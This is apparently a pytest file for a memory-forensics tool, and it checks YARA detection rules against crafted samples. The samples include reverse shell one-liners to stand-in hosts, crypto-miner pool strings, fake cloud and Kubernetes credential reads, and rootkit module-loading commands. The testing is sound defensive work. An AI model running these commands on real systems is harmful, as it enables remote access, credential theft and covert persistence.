"""The starter rules hit what they are for, and nothing on images of nodes where it is not."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
import yara

from memir.hunt.rule_text import read_source
from memir.hunt.rules import load_rules
from memir.kube.ram import RamSource
from tests.hunt.hunting import run

RULES = Path(__file__).resolve().parents[2] / "samples" / "rules"
JWT = b"eyJhbGciOiJSUzI1NiIsImtpZCI6" + b"Z" * 40 + b".eyJhdWQiOlsi" + b"Y" * 700 + b"." + b"S" * 342
# made here, none of them was ever valid
HITS: dict[str, list[bytes]] = {
    "Miner_Stratum_Session": [
        b'{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5"]}',
        b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt5"',
    ],
    "Miner_Pool_Address": [b"stratum+tcp://pool.example.org:3333", b"stratum2+ssl://eu.pool.example:443"],
    "Miner_Command_Line": [b"./kdevtmpfsi\0--donate-level\x001\0", b"x\0-a\0rx/0\0-o\0"],
    "Miner_Xmrig_Program": [b"XMRig/6.21.0\0...donate-over-proxy\0randomx\0huge-pages-jit"],
    "Reverse_Shell_Dev_Tcp": [b"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", b"exec 5<>/dev/tcp/c2.example/443"],
    "Reverse_Shell_Netcat": [
        b"nc -nv 198.51.100.7 4444 -e /bin/sh", b"ncat\x00198.51.100.7\x009001\x00-e\x00sh",
        b"nc -e /bin/bash 198.51.100.7 99",
        b"mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 1",
    ],
    "Reverse_Shell_Script": [
        b'python3 -c "import socket,os;s=socket.socket();s.connect((\'198.51.100.7\',1));os.dup2(s.fileno(),0);',
        b"s.connect((h,p)); import pty; pty.spawn('/bin/sh')",
        b"socat exec:'bash -li',pty,stderr tcp:198.51.100.7:4444",
    ],
    "Credential_Aws_Secret_Key": [
        b"AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\0",
        b"aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n",
    ],
    "Credential_Aws_Session": [b'"AccessKeyId" : "ASIAIOSFODNN7EXAMPLE"', b"AWS_SESSION_TOKEN=" + b"A" * 200],
    "Credential_Gcp_Service_Key": [b'{"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\\nMII'],
    "Credential_Azure_Client_Secret": [b"AZURE_CLIENT_SECRET=abc8Q~" + b"x" * 34],
    "Credential_Metadata_Request": [b"GET /latest/meta-data/iam/security-credentials/node-role HTTP/1.1"],
    "Kubernetes_Service_Account_Token": [JWT],
    "Kubernetes_Token_Used_From_Shell": [
        b"curl\0-k\0-H\0Authorization: Bearer " + JWT, b"kubectl get secrets --token=eyJhbGciOi",
        b"cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    ],
    "Kubernetes_Kubeconfig_Key": [b"    client-key-data: LS0tLS1CRUdJTiBSU0E" + b"A" * 200],
    "Module_Loader_Script": [b"insmod /dev/shm/.x/rk.ko", b"insmod\0/tmp/a.ko\0", b"echo hideme >> /etc/modules"],
    "Module_Loader_Program": [
        b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x01\0 vermagic=6.1.0-50-cloud-amd64 SMP preempt mod_unload \0"
        b"finit_module\0insmod failed: %s",
    ],
    "Rootkit_Words": [b"\0diamorphine_init\0", b"/reptile/reptile_cmd"],
}  # fmt: skip
BENIGN = [
    b"usage: nc [-46CDdFhklNnrStUuvZz] [-e command] [hostname] [port]",
    b"http://169.254.169.254/latest/meta-data/instance-id",
    b"AWS_SECRET_ACCESS_KEY=\0AWS_SECRET_ACCESS_KEY=${SECRET}",
    b"aws_secret_access_key = <your secret key here, 40 characters of it>",
    b"donate-level cpu-max-threads-hint randomx",
    b"/lib/modules/6.1.0-50/kernel/fs/overlayfs/overlay.ko insmod /lib/modules/x.ko init_module",
    b"Authorization: Bearer %s eyJhbGciOiJSUzI1NiIs.",
    b"/dev/tcp/host/port  redirection: bash -i; socket.socket().connect",
]
EXPECTED_ON_IMAGES = {
    "s-6.12-intruded": {"Miner_Pool_Address", "Kubernetes_Service_Account_Token"},
    "node-6.1": {"Miner_Pool_Address", "Kubernetes_Service_Account_Token"},
}


@pytest.fixture(scope="module")
def compiled() -> yara.Rules:
    return load_rules([RULES]).sets[0]


def names() -> list[str]:
    return sorted(rule.name for path in RULES.glob("*.yar") for rule in read_source(path.read_text()).rules)


@pytest.mark.parametrize("rule", names())
def test_each_rule_hits_its_own(compiled: yara.Rules, rule: str) -> None:
    for sample in HITS[rule]:
        assert rule in [match.rule for match in compiled.match(data=b"\0 " + sample + b" \0")], sample


def test_no_rule_hits_the_benign(compiled: yara.Rules) -> None:
    for text in BENIGN:
        assert compiled.match(data=b"\0" + text + b"\0") == []
    for rule, samples in HITS.items():
        family = rule.split("_")[0]
        for sample in samples:
            others = {match.rule.split("_")[0] for match in compiled.match(data=b"\0 " + sample + b" \0")}
            assert others == {family}


def test_every_rule_says_what_it_means(compiled: yara.Rules) -> None:
    for rule in compiled:
        assert set(rule.meta) >= {"description", "technique", "severity"} and rule.meta["technique"].startswith("T1")
        assert ("Credential" in rule.identifier or "Kubernetes" in rule.identifier) <= bool(
            {"secret", "aws"} & set(rule.tags)
        )
    assert load_rules([RULES]).monotone


def test_on_real_images(node_of: Callable[[str], RamSource], image: str) -> None:
    found = run(node_of(image), load_rules([RULES]))
    assert {row["rule"] for row in found.rows} == EXPECTED_ON_IMAGES.get(image, set())
    for row in found.rows:  # secrets are masked
        assert "secret" not in row["tags"] or "sha256" in row["data"]
